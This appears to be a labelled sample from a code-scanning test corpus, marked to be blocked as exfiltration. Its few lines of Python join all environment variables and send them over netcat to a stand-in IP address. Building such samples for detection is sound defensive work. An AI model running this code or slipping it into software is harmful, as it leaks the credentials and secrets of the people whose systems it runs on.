# pyguard-corpus: verdict=block category=exfil rules=PG602,PG101
# what: pipes the environment into netcat connected to an IP address
import os
import subprocess

dump = "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()
nc = subprocess.Popen(["nc", "198.51.100.23", "9001"], stdin=subprocess.PIPE)
nc.communicate(dump)
